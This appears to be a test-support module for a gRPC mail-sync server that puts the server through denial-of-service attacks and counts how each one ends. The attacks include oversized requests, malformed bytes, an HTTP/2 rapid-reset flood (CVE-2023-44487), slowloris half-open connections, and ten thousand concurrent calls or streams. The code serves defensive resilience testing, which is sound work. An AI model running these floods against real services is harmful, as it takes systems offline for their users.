"""What a hostile client does to the gRPC port. Each attack returns what became of it, in a word, once or several times."""

import asyncio
import os
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import ExitStack, suppress
from typing import Any

import grpc
from h2.config import H2Configuration
from h2.connection import H2Connection

from mailsync_grpc.v1 import account_service_pb2, event_service_pb2, system_service_pb2
from mailsync_grpc.v1.account_service_pb2_grpc import AccountServiceStub
from mailsync_grpc.v1.event_service_pb2_grpc import EventServiceStub
from mailsync_grpc.v1.system_service_pb2_grpc import SystemServiceStub
from tests.support.callers import Metadata

MANY = 10_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Outcome = Counter[str]
Attack = Callable[[str, Metadata], Outcome]


def connected(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=60)


def oversized(address: str, metadata: Metadata) -> Outcome:
    """Requests far above what the server takes."""
    request = account_service_pb2.CreateAccountRequest()
    request.account.display_name = "x" * (8 << 20)
    outcome: Outcome = Counter()
    with grpc.insecure_channel(address) as channel:
        for _ in range(5):
            try:
                AccountServiceStub(channel).CreateAccount(request, metadata=metadata)
            except grpc.RpcError as error:
                outcome[error.code().name] += 1
    return outcome


def junk(address: str, _metadata: Metadata) -> Outcome:
    """Octets that are no HTTP/2: noise, HTTP/1.1, the beginning of TLS, a preface with a broken frame behind it."""
    broken = PREFACE + b"\xff" * 200
    sent = (
        os.urandom(4_096),
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00" + bytes(512),
        broken,
    )
    outcome: Outcome = Counter()
    for octets in sent * 10:
        with connected(address) as peer, suppress(ConnectionError):
            peer.sendall(octets)
            while peer.recv(4_096):
                pass
        outcome["closed"] += 1
    return outcome


def rapid_reset(address: str, metadata: Metadata) -> Outcome:
    """Streams that are opened and reset at once, as fast as can be written (CVE-2023-44487)."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/mailsync.v1.SystemService/GetServerInfo"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *metadata,
    ]
    protocol = H2Connection(H2Configuration(client_side=True))
    protocol.initiate_connection()
    with connected(address) as peer, suppress(OSError):
        for number in range(MANY):
            stream = protocol.get_next_available_stream_id()
            protocol.send_headers(stream, headers)
            protocol.send_data(stream, bytes(5))
            protocol.reset_stream(stream, 8)
            if number % 100 == 0:
                peer.sendall(protocol.data_to_send())
        peer.sendall(protocol.data_to_send())
    return Counter({"sent": MANY})


def slow_loris(address: str, _metadata: Metadata) -> Outcome:
    """Connections that begin a handshake and do not finish it."""
    outcome: Outcome = Counter()
    with ExitStack() as stack:
        peers = [stack.enter_context(connected(address)) for _ in range(300)]
        for number, peer in enumerate(peers):
            peer.sendall(PREFACE[: number % len(PREFACE)])
        end = time.monotonic() + 60
        for peer in peers:
            peer.settimeout(max(0.1, end - time.monotonic()))
            with suppress(ConnectionError):
                while peer.recv(4_096):
                    pass
            outcome["closed"] += 1
    return outcome


def many_calls(address: str, metadata: Metadata) -> Outcome:
    """Ten thousand calls at once."""
    request = system_service_pb2.GetServerInfoRequest()

    async def one(channel: Any) -> None:
        await SystemServiceStub(channel).GetServerInfo(request, metadata=metadata)

    return asyncio.run(_at_once(address, one))


def many_streams(address: str, metadata: Metadata) -> Outcome:
    """Ten thousand streams at once, those that are let in held open until all are."""
    request = event_service_pb2.WatchEventsRequest()
    held: list[Any] = []

    async def one(channel: Any) -> None:
        stub: Any = EventServiceStub(channel)
        stream = stub.WatchEvents(request, metadata=metadata)
        await stream.read()
        held.append(stream)

    return asyncio.run(_at_once(address, one))


async def _at_once(address: str, one: Callable[[Any], Awaitable[None]]) -> Outcome:
    outcome: Outcome = Counter()

    async def counted(channel: Any) -> None:
        try:
            await one(channel)
        except grpc.aio.AioRpcError as error:
            outcome[error.code().name] += 1
        else:
            outcome["OK"] += 1

    async with grpc.aio.insecure_channel(address) as channel:
        await asyncio.gather(*(counted(channel) for _ in range(MANY)))
    return outcome
